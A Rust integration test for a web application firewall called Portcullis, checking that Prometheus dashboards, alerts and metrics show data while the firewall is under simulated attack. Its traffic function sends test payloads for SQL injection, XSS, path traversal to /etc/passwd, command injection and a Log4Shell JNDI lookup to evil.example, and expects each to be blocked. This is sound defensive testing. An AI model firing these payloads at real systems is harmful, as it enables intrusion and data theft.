//! A real Prometheus looks at a real Portcullis under attack: its tools accept the configuration, alerts fire when they
//! should, and every expression of every dashboard and alert has an answer.
//!
//! Needs Debian's package `prometheus`. Without it the tests say that they were skipped, unless
//! `PORTCULLIS_REQUIRE_PROMETHEUS` is set. `PORTCULLIS_PICTURES=1` draws the dashboards into `docs/img`.

#![cfg(all(feature = "server", unix))]

#[path = "support/dashboards.rs"]
mod dashboards;
#[path = "support/picture.rs"]
mod picture;
mod support;

use dashboards::{ALL, Dashboard};
use picture::Series;
use serde_json::Value;
use std::collections::BTreeSet;
use std::fs;
use std::io::{BufRead, BufReader, Read, Write};
use std::net::{SocketAddr, TcpListener, TcpStream};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant, SystemTime, UNIX_EPOCH};
use support::binary::{Binary, TOKEN};
use support::origin::nobody;
use support::redis::Redis;

fn root() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
}

/// Whether Prometheus is installed; says so loudly when it is not.
fn is_there() -> bool {
    let found = ["prometheus", "promtool"]
        .iter()
        .all(|program| Command::new(program).arg("--version").output().is_ok_and(|o| o.status.success()));
    if !found {
        assert!(std::env::var_os("PORTCULLIS_REQUIRE_PROMETHEUS").is_none(), "prometheus is not installed");
        // Past the test harness, which keeps what a test that passes prints.
        let _ = writeln!(
            std::io::stderr(),
            "SKIPPED: prometheus is not installed (Debian's package `prometheus`)"
        );
    }
    found
}

fn promtool(arguments: &[&str], input: Option<&str>) -> String {
    let mut process = Command::new("promtool")
        .args(arguments)
        .current_dir(root())
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("promtool runs");
    let mut stdin = process.stdin.take().expect("piped");
    stdin.write_all(input.unwrap_or_default().as_bytes()).expect("taken");
    drop(stdin);
    let output = process.wait_with_output().expect("it ends");
    let said = [output.stdout, output.stderr].concat();
    let said = String::from_utf8_lossy(&said).into_owned();
    assert!(output.status.success(), "promtool {arguments:?}:\n{said}");
    said
}

#[test]
fn promtool_accepts_configuration_and_rules() {
    if !is_there() {
        return;
    }
    promtool(&["check", "config", "config/prometheus/prometheus.yaml"], None);
    promtool(&["check", "rules", "config/prometheus/recording.yaml", "config/prometheus/alerts.yaml"], None);
}

#[test]
fn alerts_fire_when_they_should_and_only_then() {
    if !is_there() {
        return;
    }
    let said = promtool(&["test", "rules", "tests/suite/prometheus/alerts_test.yaml"], None);
    assert!(said.contains("SUCCESS"), "{said}");
    let tested = fs::read_to_string(root().join("tests/suite/prometheus/alerts_test.yaml")).expect("there");
    for (name, _) in alerts() {
        assert!(tested.contains(&format!("alertname: {name}\n")), "{name} has no test");
    }
}

/// Names and expressions of the alerts.
fn alerts() -> Vec<(String, String)> {
    rules("config/prometheus/alerts.yaml", "alert")
}

fn rules(file: &str, kind: &str) -> Vec<(String, String)> {
    let text = fs::read_to_string(root().join(file)).expect("there");
    let file: serde_yaml::Value = serde_yaml::from_str(&text).expect("YAML");
    let groups = file["groups"].as_sequence().expect("groups");
    let rules = groups.iter().flat_map(|group| group["rules"].as_sequence().expect("rules"));
    let text = |rule: &serde_yaml::Value, key: &str| rule[key].as_str().expect("a text").to_owned();
    rules.map(|rule| (text(rule, kind), text(rule, "expr"))).collect()
}

/// Processes that end with the test.
struct Killed(Child);

impl Drop for Killed {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

/// An application that answers everything.
fn origin() -> SocketAddr {
    let listener = TcpListener::bind("127.0.0.1:0").expect("bound");
    let address = listener.local_addr().expect("an address");
    std::thread::spawn(move || {
        for stream in listener.incoming().map_while(Result::ok) {
            std::thread::spawn(move || answer(stream));
        }
    });
    address
}

fn answer(mut stream: TcpStream) {
    let mut reader = BufReader::new(stream.try_clone().expect("cloned"));
    loop {
        let (mut line, mut length) = (String::new(), 0);
        loop {
            line.clear();
            match reader.read_line(&mut line) {
                Ok(0) | Err(_) => return,
                Ok(_) if line == "\r\n" => break,
                Ok(_) => {
                    let value = line.to_ascii_lowercase();
                    let value = value.strip_prefix("content-length:").and_then(|v| v.trim().parse().ok());
                    length = value.unwrap_or(length);
                }
            }
        }
        let mut body = vec![0; length];
        if reader.read_exact(&mut body).is_err() {
            return;
        }
        let head = "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 12\r\n\r\n";
        if stream.write_all(format!("{head}<p>hello</p>").as_bytes()).is_err() {
            return;
        }
    }
}

const PATCH: &str = "patch:
  title: A flaw of the shop's own
  product: shop
  blocks: The word flaw in the argument p.
  severity: error
  owner: shop team
  created: 2020-01-01
  review_by: 2020-06-01

rules:
  - id: shop-flaw
    description: The flaw
    tags: attack-generic
    when: {variables: 'ARGS:p', operator: '@streq flaw'}
    matches: ['GET /?p=flaw']
    passes: ['GET /?p=fine']
";

/// Sites with everything that dashboards and alerts ask for: one that blocks, with patches and a candidate; one that only
/// detects; one that is switched off; one that nobody attacks; one whose application is away; one that holds too much.
fn configuration(origin: SocketAddr, away: SocketAddr, redis: Option<u16>) -> String {
    let shared = redis.map_or(String::new(), |port| {
        format!(", redis: {{url: 'redis://127.0.0.1:{port}', collections: true}}")
    });
    format!(
        "listeners:
  - 127.0.0.1:0
  - {{address: '127.0.0.2:0', proxy_protocol: true}}
  - {{address: '127.0.0.3:0', max_connections: 1}}
bans: {{threshold: 3, except: {{addresses: [127.0.0.0/8, 198.51.100.0/24]}}}}
store: {{limit_keys: 1024{shared}}}
trusted_proxies: [127.0.0.1]
admin: {{address: '127.0.0.1:0', token: {TOKEN}}}
reload: {{watch: false}}
client: {{held_bytes: 8MiB}}
metrics: {{rule_cost_sample: 1}}
audit:
  log: audit.log
  sinks: [{{name: away, to: 'tcp://{away}', queue: 5, retry: 1s}}, {{name: stuck, to: 'tcp://{away}', queue: 5}}]
sites:
  - name: shop
    hosts: [shop.test]
    upstreams: ['http://{origin}']
    patches: [cve-2021-44228, shop-flaw.yaml]
    access: [{{name: closed, paths: [/closed]}}]
    rate_limits: [{{name: login, paths: [/login], requests: 2, period: 1m}}]
    balance: {{health_check: {{path: /, interval: 1s}}}}
    directives: |
      SecRequestBodyLimit 2048
      SecRequestBodyLimitAction ProcessPartial
      SecAction \"id:78,phase:1,pass,nolog,initcol:ip=%{{REMOTE_ADDR}},setvar:ip.requests=+1,expirevar:ip.requests=20\"
    shadow:
      sample: 100%
      directives: |
        SecRule ARGS:page \"@streq 7\" \"id:77,phase:2,deny,log,msg:'Seven'\"
  - name: blog
    hosts: [blog.test]
    upstreams: ['http://{origin}']
    mode: DetectionOnly
    rules:
      - text: |
          SecRule ARGS:q \"@contains evil\" \"id:10,phase:1,deny,log,tag:'attack-generic',msg:'Evil'\"
  - {{name: open, hosts: [open.test], upstreams: ['http://{origin}'], mode: 'Off'}}
  - name: quiet
    hosts: [quiet.test]
    upstreams: ['http://{origin}']
    rate_limits: [{{name: keys, requests: 2, period: 1h, key: 'header:X-Key'}}]
  - {{name: away, hosts: [away.test], upstreams: ['http://{away}'], balance: {{max_fails: 0}}}}
  - name: files
    hosts: [files.test]
    upstreams: ['http://{origin}']
    directives: |
      SecRequestBodyLimit 20000000
      SecRequestBodyNoFilesLimit 20000000
"
    )
}

/// One request on a connection of its own: what came back.
fn ask(address: SocketAddr, request: &str) -> String {
    let Ok(mut stream) = TcpStream::connect(address) else { return String::new() };
    // To load five sites' rules takes a busy machine a while.
    let _ = stream.set_read_timeout(Some(Duration::from_secs(120)));
    // A request may be refused before it was sent as a whole.
    let _ = stream.write_all(request.as_bytes());
    let mut answer = Vec::new();
    let _ = stream.read_to_end(&mut answer);
    String::from_utf8_lossy(&answer).into_owned()
}

fn get(address: SocketAddr, host: &str, path: &str) -> String {
    get_as(address, host, path, "198.51.100.7")
}

fn get_as(address: SocketAddr, host: &str, path: &str, client: &str) -> String {
    ask(
        address,
        &format!(
            "GET {path} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\nX-Forwarded-For: {client}\r\nConnection: close\r\n\r\n"
        ),
    )
}

fn post(address: SocketAddr, host: &str, length: usize) -> String {
    let head = format!(
        "POST /up HTTP/1.1\r\nHost: {host}\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: {length}\r\nConnection: close\r\n\r\na="
    );
    let body: String = "some+words,+and+others%20; ".chars().cycle().take(length - 2).collect();
    ask(address, &(head + &body))
}

/// Asks to reload while traffic goes on.
fn reload(admin: SocketAddr, token: &str, proxy: SocketAddr) -> String {
    let request = format!(
        "POST /api/reload HTTP/1.1\r\nHost: {admin}\r\nAuthorization: Bearer {token}\r\nConnection: close\r\n\r\n"
    );
    std::thread::scope(|scope| {
        let answer = scope.spawn(|| ask(admin, &request));
        for tick in 0.. {
            traffic(proxy, tick, 0);
            std::thread::sleep(Duration::from_millis(150));
            if answer.is_finished() {
                break;
            }
        }
        answer.join().expect("asked")
    })
}

/// More long inspections at a time than there are threads for them: those for which the wait would be too long are shed.
fn rush(proxy: SocketAddr) {
    std::thread::scope(|scope| {
        for _ in 0..24 {
            scope.spawn(|| post(proxy, "files.test", RUSH));
        }
    });
}

/// Bytes of each body in a rush.
const RUSH: usize = 150_000;

/// Some of everything; `attacks` of each kind.
fn traffic(proxy: SocketAddr, tick: usize, attacks: usize) {
    for page in 0..6 {
        assert!(get(proxy, "shop.test", &format!("/?page={}", page + tick % 3)).contains("hello"));
    }
    assert!(get(proxy, "open.test", "/").contains("hello"));
    get(proxy, "away.test", "/");
    get(proxy, "away.test", "/again");
    for _ in 0..attacks {
        for path in [
            "/?q=1%27%20OR%20%271%27=%271%27--%20",
            "/?q=%3Cscript%3Ealert(1)%3C/script%3E",
            "/?file=../../../../etc/passwd",
            "/?x=%24%7Bjndi:ldap://evil.example/a%7D",
            "/?p=flaw",
            "/?cmd=;cat%20/etc/passwd",
        ] {
            let answer = get(proxy, "shop.test", path);
            assert!(answer.starts_with("HTTP/1.1 403"), "{path}: {answer}");
        }
        assert!(get(proxy, "blog.test", "/?q=evil").contains("hello"));
    }
    if attacks > 0 {
        // They come again until they are banned, and after that.
        get_as(
            proxy,
            "shop.test",
            "/?q=1%27%20OR%20%271%27=%271%27--%20",
            &format!("203.0.113.{}", tick % 7),
        );
        for _ in 0..3 {
            get_as(proxy, "shop.test", "/login", "198.51.100.8");
        }
    }
    if tick.is_multiple_of(5) {
        post(proxy, "shop.test", 6_000);
        post(proxy, "files.test", 10_000_000);
        ask(proxy, "GET / HTTP/1.1\r\nHost: shop.test\r\nHost: blog.test\r\n\r\n");
        get(proxy, "shop.test", "/closed");
    }
}

/// More than a thousand requests that nobody could object to, over one connection; each has a key of its own, more of
/// them than the table of rate limits holds.
fn quiet(proxy: SocketAddr, name: &str) {
    let stream = TcpStream::connect(proxy).expect("connected");
    let mut reader = BufReader::new(stream.try_clone().expect("cloned"));
    let mut stream = stream;
    for n in 0..1_500 {
        let head = format!(
            "GET / HTTP/1.1\r\nHost: quiet.test\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\nX-Key: {name}{n}\r\n\r\n"
        );
        stream.write_all(head.as_bytes()).expect("sent");
        let (mut line, mut length) = (String::new(), 0);
        while line != "\r\n" {
            line.clear();
            assert_ne!(reader.read_line(&mut line).expect("answered"), 0);
            let lower = line.to_ascii_lowercase();
            length =
                lower.strip_prefix("content-length:").and_then(|v| v.trim().parse().ok()).unwrap_or(length);
        }
        reader.read_exact(&mut vec![0; length]).expect("the body");
    }
}

fn now() -> f64 {
    SystemTime::now().duration_since(UNIX_EPOCH).expect("after 1970").as_secs_f64()
}

/// What Prometheus answers for each second between two times.
fn query(prometheus: SocketAddr, expression: &str, from: f64, to: f64) -> Result<Vec<Value>, String> {
    let output = Command::new("curl")
        .args(["-s", "-G", &format!("http://{prometheus}/api/v1/query_range")])
        .args(["--data-urlencode", &format!("query={expression}")])
        .args(["-d", &format!("start={from:.0}"), "-d", &format!("end={to:.0}"), "-d", "step=1"])
        .output()
        .expect("curl runs");
    let answer: Value = serde_json::from_slice(&output.stdout).map_err(|e| e.to_string())?;
    match answer["data"]["result"].as_array() {
        Some(result) if answer["status"] == "success" => Ok(result.clone()),
        _ => Err(answer.to_string()),
    }
}

/// What Grafana puts in the place of its variables, for a minute at which is looked each second.
fn substituted(expression: &str) -> String {
    expression.replace("$__rate_interval", "8s").replace("$__range", "60s").replace("$site", ".*")
}

fn series(result: &[Value], legend: &str) -> Vec<Series> {
    let one = |series: &Value| {
        let mut name = legend.to_owned();
        for (label, value) in series["metric"].as_object().into_iter().flatten() {
            name = name.replace(&format!("{{{{{label}}}}}"), value.as_str().unwrap_or_default());
        }
        let number = |v: &Value| v.as_str().and_then(|v| v.parse().ok()).or(v.as_f64()).unwrap_or(f64::NAN);
        let values = series["values"].as_array().into_iter().flatten();
        Series { legend: name, points: values.map(|v| (number(&v[0]), number(&v[1]))).collect() }
    };
    result.iter().map(one).collect()
}

fn has_numbers(found: &[Series]) -> bool {
    found.iter().flat_map(|s| &s.points).any(|p| p.1.is_finite())
}

/// The example queries of the metrics' reference, each with the metric that it stands under.
fn examples() -> Vec<(String, String)> {
    let page = fs::read_to_string(root().join("docs/reference/metrics.md")).expect("there");
    let of = |section: &str| {
        let (name, rest) = section.split_once('`')?;
        let (_, rest) = rest.split_once("```promql\n")?;
        Some((name.to_owned(), rest.split_once("\n```")?.0.to_owned()))
    };
    let examples: Vec<_> = page.split("\n## `").skip(1).filter_map(of).collect();
    assert_eq!(examples.len(), portcullis::telemetry::ROWS.len(), "each metric has an example");
    examples
}

/// The rule of the embedded ruleset that compares the score of a request with its threshold.
const JUDGE: u64 = 9_180_040;

fn panels(
    dashboard: &Dashboard,
    prometheus: SocketAddr,
    from: f64,
    to: f64,
    is_shown: &dyn Fn(&str) -> bool,
    faults: &mut Vec<String>,
) -> Vec<Vec<Series>> {
    let mut all = Vec::new();
    for (panel, _) in dashboard.places() {
        let mut shown = Vec::new();
        for (expression, legend) in panel.queries.iter().filter(|(expression, _)| is_shown(expression)) {
            let found = match query(prometheus, &substituted(expression), from, to) {
                Ok(result) => series(&result, legend),
                Err(error) => {
                    faults.push(format!("{}, {}: {error}", dashboard.title, panel.title));
                    continue;
                }
            };
            if !has_numbers(&found) {
                faults.push(format!("{}, {}: no data: {expression}", dashboard.title, panel.title));
            }
            // Lists of rules name rules; what only compares the score is no hit.
            if *legend == "{{rule_id}}" {
                let is_hit = |id: u64| id != JUDGE || !expression.contains("portcullis_rule_hits_total");
                if let Some(other) = found.iter().find(|s| !s.legend.parse().is_ok_and(is_hit)) {
                    faults.push(format!("{}: {} has no place there", panel.title, other.legend));
                }
            }
            shown.extend(found);
        }
        all.push(shown);
    }
    all
}

#[test]
fn every_panel_and_alert_has_data_under_attack() {
    if !is_there() {
        return;
    }
    let mut redis = Redis::start(&[]);
    let (origin, away) = (origin(), nobody());
    let configuration = configuration(origin, away, redis.as_ref().map(|redis| redis.port));
    let portcullis = Binary::start(&[("shop-flaw.yaml", PATCH)], &configuration);
    let listeners = portcullis.listening.iter().map(|address| address.parse().expect("an address"));
    let [proxy, secured, narrow] =
        listeners.collect::<Vec<SocketAddr>>().try_into().expect("three listeners");
    let admin = portcullis.admin;
    let directory = tempfile::tempdir().expect("a directory");
    let (_prometheus, prometheus) = prometheus(directory.path(), admin);

    let names = [(origin, "app:3000"), (away, "old-app:3000"), (admin, "waf-1")];
    let from = now();
    // Counters show before they grow, and the usual rate comes before the surge.
    for tick in 0..20 {
        traffic(proxy, tick, usize::from(tick % 10 == 0));
        std::thread::sleep(Duration::from_millis(150));
    }
    quiet(proxy, "first");
    let answer = reload(admin, TOKEN, proxy);
    assert!(answer.contains("unchanged"), "{answer}");
    let answer = reload(admin, "another", proxy);
    assert!(answer.starts_with("HTTP/1.1 401"), "{answer}");
    fs::write(portcullis.path("portcullis.yaml"), format!("{configuration}# changed\n")).expect("written");
    let answer = reload(admin, TOKEN, proxy);
    assert!(answer.contains("success"), "{answer}");
    rush(proxy);
    let surge = now();
    for tick in 0..40 {
        traffic(proxy, tick, 4);
        ask(secured, "no PROXY header\r\n\r\n");
        if tick == 20 {
            fs::write(portcullis.path("portcullis.yaml"), format!("{configuration}nonsense: true\n"))
                .expect("written");
            let answer = reload(admin, TOKEN, proxy);
            assert!(answer.contains("refused"), "{answer}");
            if let Some(redis) = &mut redis {
                redis.stop();
            }
            quiet(proxy, "second");
            // One connection is all that this listener may have.
            let _held = TcpStream::connect(narrow).expect("connected");
            std::thread::sleep(Duration::from_millis(50));
            assert!(!get(narrow, "quiet.test", "/").contains("hello"), "it is full");
        }
        std::thread::sleep(Duration::from_millis(100));
    }
    // The last scrapes and evaluations.
    std::thread::sleep(Duration::from_secs(4));
    let to = now();

    let mut faults = Vec::new();
    let is_shown = |expression: &str| redis.is_some() || !expression.contains("portcullis_shared_store");
    let pictures = std::env::var_os("PORTCULLIS_PICTURES").is_some();
    for dashboard in ALL {
        let mut data = panels(dashboard, prometheus, from, to, &is_shown, &mut faults);
        if pictures {
            // Ports are others each time.
            for series in data.iter_mut().flatten() {
                for (address, name) in &names {
                    series.legend = series.legend.replace(&address.to_string(), name);
                }
            }
            let name = dashboard.file.replace(".json", ".svg");
            let file = root().join(format!("docs/img/dashboard-{name}"));
            fs::write(file, picture::draw(dashboard, &data, (from, to))).expect("written");
        }
    }
    for (name, _) in rules("config/prometheus/recording.yaml", "record") {
        if query(prometheus, &name, from, to).is_ok_and(|found| found.is_empty()) {
            faults.push(format!("{name} is not recorded"));
        }
    }
    for (name, expression) in alerts().into_iter().filter(|(_, expression)| is_shown(expression)) {
        // A minute stands for what is minutes and hours elsewhere, and no inspection takes 50 ms; everything else is
        // provoked as it is.
        let expression = expression.replace("[15m]", "[20s]").replace("[5m]", "[20s]");
        let expression = match name.as_str() {
            // From before it began, as an hour is elsewhere.
            "PortcullisAttackSurge" => {
                expression.replace("offset 1h", &format!("offset {:.0}s", to - surge + 1.0))
            }
            "PortcullisSlowInspection" => expression.replace("> 0.05", "> 0"),
            _ => expression,
        };
        match query(prometheus, &expression, from, to) {
            Ok(found) if !found.is_empty() => {}
            Ok(_) => faults.push(format!("{name} does not show: {expression}")),
            Err(error) => faults.push(format!("{name}: {error}")),
        }
    }
    for (metric, expression) in examples().into_iter().filter(|(_, expression)| is_shown(expression)) {
        match query(prometheus, &expression, from, to) {
            Ok(found) if has_numbers(&series(&found, "")) => {}
            Ok(_) => faults.push(format!("the example of {metric} shows nothing: {expression}")),
            Err(error) => faults.push(format!("the example of {metric}: {error}")),
        }
    }
    let text = portcullis.ask("/metrics");
    assert!(faults.is_empty(), "{} of:\n{}\n{text}", faults.len(), faults.join("\n"));
    promtool(&["check", "metrics"], Some(&text));
}

/// Prometheus with the rules as they are delivered, but once a second, and with a second instance that is down.
fn prometheus(directory: &Path, admin: SocketAddr) -> (Killed, SocketAddr) {
    for file in ["recording.yaml", "alerts.yaml"] {
        fs::copy(root().join("config/prometheus").join(file), directory.join(file)).expect("copied");
    }
    let configuration = format!(
        "global: {{scrape_interval: 1s, evaluation_interval: 1s}}
rule_files: [recording.yaml, alerts.yaml]
scrape_configs:
  - job_name: portcullis
    static_configs: [{{targets: ['{admin}', '{}']}}]
",
        nobody()
    );
    let file = directory.join("prometheus.yaml");
    fs::write(&file, configuration).expect("written");
    let address = nobody();
    let log = fs::File::create(directory.join("prometheus.log")).expect("created");
    let process = Command::new("prometheus")
        .arg(format!("--config.file={}", file.display()))
        .arg(format!("--storage.tsdb.path={}", directory.join("data").display()))
        .arg(format!("--web.listen-address={address}"))
        .stdout(Stdio::null())
        .stderr(log)
        .spawn()
        .expect("started");
    let process = Killed(process);
    let begun = Instant::now();
    while query(address, "up", now() - 5.0, now()).map_or(true, |found| found.is_empty()) {
        let log = || fs::read_to_string(directory.join("prometheus.log")).unwrap_or_default();
        assert!(begun.elapsed() < Duration::from_secs(30), "prometheus does not scrape:\n{}", log());
        std::thread::sleep(Duration::from_millis(200));
    }
    (process, address)
}

/// Whatever is measured is looked at: each metric is on a dashboard, in an alert or in a recording rule.
#[test]
fn every_metric_is_looked_at() {
    let mut looked: String = alerts().into_iter().map(|(_, expression)| expression).collect();
    looked.extend(
        rules("config/prometheus/recording.yaml", "record").into_iter().map(|(_, expression)| expression),
    );
    for dashboard in ALL {
        let panels = dashboard.places().into_iter().map(|(panel, _)| panel);
        looked.extend(panels.flat_map(|panel| panel.queries).map(|(expression, _)| *expression));
    }
    let words: BTreeSet<&str> = looked.split(|c: char| !c.is_ascii_alphanumeric() && c != '_').collect();
    for row in portcullis::telemetry::ROWS {
        let names = ["", "_bucket", "_sum", "_count"].map(|end| format!("{}{end}", row.name));
        assert!(names.iter().any(|name| words.contains(name.as_str())), "nobody looks at {}", row.name);
    }
}

/// Names of recorded series and alerts are each given once.
#[test]
fn names_of_rules_are_given_once() {
    let mut names = BTreeSet::new();
    let all = rules("config/prometheus/recording.yaml", "record").into_iter().chain(alerts());
    for (name, _) in all {
        assert!(names.insert(name.clone()), "{name} is there twice");
    }
}
